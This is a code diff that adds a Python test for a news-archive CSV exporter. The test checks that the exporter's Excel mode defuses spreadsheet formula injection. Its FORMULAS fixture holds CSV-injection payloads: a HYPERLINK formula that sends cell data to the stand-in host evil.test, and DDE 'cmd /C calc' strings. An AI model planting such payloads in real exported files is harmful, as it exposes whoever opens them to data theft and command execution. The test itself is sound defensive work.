@@ -253,3 +253,47 @@ def test_progress_with_eta_on_a_terminal_only(archive_db: Path, tmp_path: Path) 
     # Under cron (stderr not a terminal) only the final line is written.
     quiet = run_cli("export", "--db", str(archive_db), "--site", "kompas", "-o", str(tmp_path / "b.csv"), cwd=tmp_path)
     assert quiet.stderr.decode().strip() == f"20 articles written to {tmp_path / 'b.csv'}"
+
+
+#: Cells a spreadsheet would run as formulas (OWASP "CSV Injection"), by column.
+FORMULAS = {
+    "title": '=HYPERLINK("http://evil.test/?"&A1,"Klik")',
+    "description": "+cmd|' /C calc'!A0",
+    "section": "-5",  # a number in a text cell: quoted in the safe variant too
+    "dateline": "@SUM(1+1)*cmd|' /C calc'!A0",
+    "body": "\t=1+1\n\nParagraf kedua.",
+    "lead_image": "\r=2+2",
+}
+
+
+def test_excel_export_neutralises_formula_cells_and_the_plain_one_keeps_them(tmp_path: Path) -> None:
+    path = tmp_path / "archive.db"
+    db = open_archive(path)
+    save_articles(db, [make_article(1), make_article(2, authors=["@budi", "Ani"])])
+    # Written past save_articles, which cleans text: the export must be safe whatever the archive holds.
+    db.conn.execute(
+        f"UPDATE articles SET {', '.join(f'{c} = ?' for c in FORMULAS)}, word_count = -3 WHERE id = 1",
+        list(FORMULAS.values()),
+    )
+    db.conn.commit()
+    columns = ["id", "word_count", "authors", *FORMULAS]
+    out = io.StringIO(newline="")
+    export_csv(open_archive(path), out, columns=columns, excel=True)
+    excel = {r["id"]: r for r in csv.DictReader(io.StringIO(out.getvalue().lstrip("\ufeff"), newline=""))}
+    assert {c: excel["1"][c] for c in FORMULAS} == {c: "'" + v for c, v in FORMULAS.items()}
+    assert excel["1"]["word_count"] == "-3"  # an INTEGER is a number, never a formula: unchanged
+    assert excel["2"]["authors"] == "'@budi; Ani"  # the joined list cell is what a spreadsheet sees
+    assert excel["2"]["title"] == make_article(2)["title"]  # ordinary text unchanged
+    # Not lead_image in the plain export: Python's csv writer quotes a field holding a bare CR only
+    # when CR is in the line terminator, and the plain export ends lines with LF (left as found).
+    plain = {r["id"]: r for r in export_rows(path, columns=[c for c in columns if c != "lead_image"])}
+    assert {c: plain["1"][c] for c in FORMULAS if c != "lead_image"} == {  # raw values for pandas and R
+        c: v for c, v in FORMULAS.items() if c != "lead_image"
+    }
+    assert plain["2"]["authors"] == "@budi; Ani"
+    # The CLI's --excel is the same path.
+    target = tmp_path / "excel.csv"
+    proc = run_cli("export", "--db", str(path), "--excel", "--columns", "id,title", "-o", str(target), cwd=tmp_path)
+    assert proc.returncode == 0, proc.stderr
+    rows = list(csv.DictReader(io.StringIO(target.read_text(encoding="utf-8-sig"), newline="")))
+    assert rows[0]["title"] == "'" + FORMULAS["title"]
